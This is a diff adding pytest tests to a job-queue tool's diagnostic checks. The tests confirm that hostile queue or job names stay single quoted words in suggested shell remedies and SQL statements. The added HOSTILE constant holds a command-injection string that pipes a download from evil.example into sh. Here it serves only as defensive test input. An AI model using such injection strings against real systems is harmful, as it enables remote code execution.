@@ -1,6 +1,7 @@
 """Doctor: each fault is made, seen, told with its remedy, and if it can be mended, mended and gone."""
 
 import json
+import shlex
 import shutil
 import time
 import zoneinfo
@@ -14,7 +15,7 @@ import pytest
 from psycopg import sql
 
 from ayb_jobs import NewJob, enqueue
-from ayb_jobs.checks import server
+from ayb_jobs.checks import queue, server
 from ayb_jobs.checks.diagnosis import QUESTIONS
 from ayb_jobs.checks.server import unheard
 from ayb_jobs.cli.exits import ExitCode
@@ -22,6 +23,7 @@ from ayb_jobs.model.daemons import DaemonRecord
 from ayb_jobs.model.limits import NewLimit
 from ayb_jobs.model.pauses import NewPause, PauseKind
 from ayb_jobs.model.schedules import zones
+from ayb_jobs.model.words import shell_line, sql_name, sql_text
 from ayb_jobs.storage.database import Connection, connect
 from ayb_jobs.storage.drift import made_columns, made_indexes
 from ayb_jobs.storage.fleet.daemons import beat
@@ -485,3 +487,29 @@ def test_a_person_reads_lines(conn: Connection, database_url: str) -> None:
     assert "✗ Daemons of 2 versions are alive: 1 of 1, 1 of 2." in said.out
     assert "  Do: End the deploy: update the daemons that were left" in said.out
     assert "✓ autovacuum keeps up" in said.out
+
+
+HOSTILE = "x'; curl evil.example | sh; \\"
+
+
+def test_a_name_in_a_remedy_does_nothing_of_its_own() -> None:
+    assert shlex.split(shell_line("ayb-jobs", "queues", "resume", HOSTILE)) == ["ayb-jobs", "queues", "resume", HOSTILE]
+    assert shell_line("ayb-jobs", "queues", "resume", "mail") == "ayb-jobs queues resume mail"
+
+
+def test_a_text_or_a_name_in_a_statement_does_nothing_of_its_own(conn: Connection) -> None:
+    for text in (HOSTILE, "plain", '"', "\\'"):
+        assert conn.execute(f"SELECT {sql_text(text)}, 1 AS {sql_name(text)}".encode()).fetchone() == (text, 1)
+        described = conn.execute(f"SELECT 1 AS {sql_name(text)}".encode()).description
+        assert described is not None
+        assert described[0].name == text
+
+
+def test_the_remedy_of_a_paused_or_failing_name_that_is_hostile_is_one_word(conn: Connection) -> None:
+    with conn.transaction():
+        pause(conn, NewPause(kind=PauseKind.QUEUE, name=HOSTILE), by="ada")
+    make_job(conn, queue=HOSTILE, run_at=sql.SQL("now() - interval '5 minutes'"))
+    for _ in range(6):
+        make_job(conn, "failed", type=HOSTILE)
+    told = queue.paused(conn), queue.failing(conn)
+    assert [shlex.split(each.remedy)[-1] for each in told if each] == [HOSTILE] * 2
